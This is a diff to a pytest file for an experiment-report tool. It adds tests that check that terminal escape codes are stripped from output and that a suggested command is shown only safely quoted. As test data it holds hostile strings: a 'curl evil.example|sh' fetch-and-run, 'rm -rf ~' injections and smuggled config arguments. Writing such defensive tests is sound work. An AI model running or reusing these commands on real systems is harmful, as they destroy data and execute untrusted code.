@@ -2,21 +2,43 @@
 
 import json
 import os
+import re
 from collections.abc import Mapping
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
-from made_runs import made_sweep
+from made_runs import MEASURES, made_sweep
 
+from dlexp.__main__ import main
 from dlexp.errors import UserError
 from dlexp.records.folder import DATA, LOCK, METRICS, RECORD
 from dlexp.records.naming import LEDGER_FILE
 from dlexp.report.making import make_answer
-from dlexp.report.plan import PLAN_FILE
+from dlexp.report.page import page
+from dlexp.report.plan import PLAN_FILE, Plan, write_plan
 from dlexp.report.runs import read_runs
+from dlexp.report.texts import markdown
 from dlexp.report.writing import files, with_curves_checked
 
+PLAN = Plan(
+    question=None,
+    command="",
+    arms={},
+    shared=[],
+    reference="sgd",
+    seeds=[0, 1, 2],
+    metric="test/accuracy",
+    margin=None,
+    hypothesis=None,
+    size=None,
+    picture=None,
+    tuning=None,
+    runs={},
+    trials={},
+    looks=[],
+)
 ARMS = {"sgd": {"optimizer": "sgd"}, "adam": {"optimizer": "adam"}}
 
 
@@ -103,7 +125,7 @@ ROWS = [
 def test_numbers_in_a_curve_that_no_float_can_square(tmp_path: Path, row: dict[str, Any]) -> None:
     edit_rows(sweep(tmp_path) / "adam_seed-0", row)
     answer = with_curves_checked(make_answer([tmp_path], reach=60))
-    assert files(answer)["report.html"] and len(answer.arms) == 2
+    assert page(answer) and len(answer.arms) == 2
 
 
 @pytest.mark.parametrize("loss", [1e308, -1e308, 1e160, 1e70, -1e-170, 1e-59, 5e-324])
@@ -112,7 +134,7 @@ def test_metrics_that_no_float_can_square(tmp_path: Path, loss: float) -> None:
         edit(run, metrics={"val/accuracy": 0.9, "test/accuracy": 0.9, "test/loss": loss * (1 - number / 10)})
     for metric in (None, "test/loss"):
         answer = make_answer([tmp_path], metric=metric)
-        assert files(answer)["report.html"]
+        assert page(answer) and markdown(answer)
         adam = next(arm for arm in answer.arms if arm.name == "adam")
         assert adam.num_diverged == (3 if abs(loss) > 1e70 else 0)  # it says so
 
@@ -124,7 +146,7 @@ def test_settings_that_no_axis_can_show(tmp_path: Path, values: tuple[float, ...
     arms = {str(number): {"optimizer.lr": value} for number, value in enumerate(values)}
     made_sweep(tmp_path, arms, {name: [0.9, 0.91] for name in arms})
     answer = make_answer([tmp_path], rows="optimizer.lr")
-    assert len(answer.arms) == 3 and files(answer)["report.md"]
+    assert len(answer.arms) == 3 and page(answer) and markdown(answer)
 
 
 def test_counts_that_are_none(tmp_path: Path) -> None:
@@ -137,3 +159,57 @@ def test_counts_that_are_none(tmp_path: Path) -> None:
     assert files(answer) and {name: size for name, size in answer.machine.items() if "samples" in name} == {
         "train samples": 2700
     }
+
+
+EVIL = "\x1b[2J\x9b\u202eEvil"
+MOVES = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\ud800-\udfff]")
+
+
+@pytest.mark.parametrize("what", ["title", "unit", "name", "choice", "note"])
+def test_no_word_of_a_stranger_moves_the_cursor(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, what: str
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    metric = {"unit": "%", "higher_is_better": True, "title": ""}
+    if what in ("title", "unit"):
+        sweep(Path("s"), measures={**MEASURES, "accuracy": metric | {what: EVIL}})
+    elif what == "name":
+        sweep(Path("s"), measures={**MEASURES, EVIL: metric}, metric=f"val/{EVIL}")
+    else:
+        for run in sweep(Path("s")).iterdir():
+            choices = json.loads((run / RECORD).read_text(encoding="utf-8"))["choices"]
+            edit(run, note=EVIL, error=EVIL, choices=choices | {"model": EVIL if what == "choice" else "mlp"})
+    for words in (["list", "s"], ["list", "s", "--json"], ["report", "s"], ["report", "s", "--json"]):
+        main(words)
+        out = capsys.readouterr().out
+        assert out and not MOVES.search(out)
+        if "--json" in words:
+            json.loads(out)
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("curl evil.example|sh", None),
+        ("python -m dlexp compare\nrm -rf ~", None),
+        ("python -m dlexp compare \u202e", None),
+        ("python -m dlexp compare 'a", None),
+        ("python -m dlexp compare a;rm -rf ~ $(b)", "python -m dlexp compare 'a;rm' -rf '~' '$(b)'"),
+        ("python -m dlexp compare allow=evil 'model=[1,2]'", "python -m dlexp compare 'model=[1,2]'"),
+    ],
+)
+def test_a_command_to_copy_compares_and_nothing_else(tmp_path: Path, command: str, shown: str | None) -> None:
+    sweep(tmp_path)
+    names = {"sgd": ["optimizer=sgd"], "adam": ["optimizer=adam"]}
+    runs = {name: {str(seed): f"{name}_seed-{seed}" for seed in range(3)} for name in names}
+    write_plan(tmp_path, replace(PLAN, command=command, arms=names, runs=runs))
+    edit(tmp_path / "sgd_seed-0", overrides=["optimizer=sgd", "+allow=evil", "--config-dir=/evil", "epochs=3\n#"])
+    answer = make_answer([tmp_path])
+    assert answer.command == shown
+    told = "".join(re.findall(r"(?s)<code.*?</code>", page(answer))) + markdown(answer)
+    assert (
+        told.count("python -m dlexp") > 2
+        and "evil" not in told
+        and "epochs=3\n" not in told
+        and "rm -rf ~\n" not in told
+    )
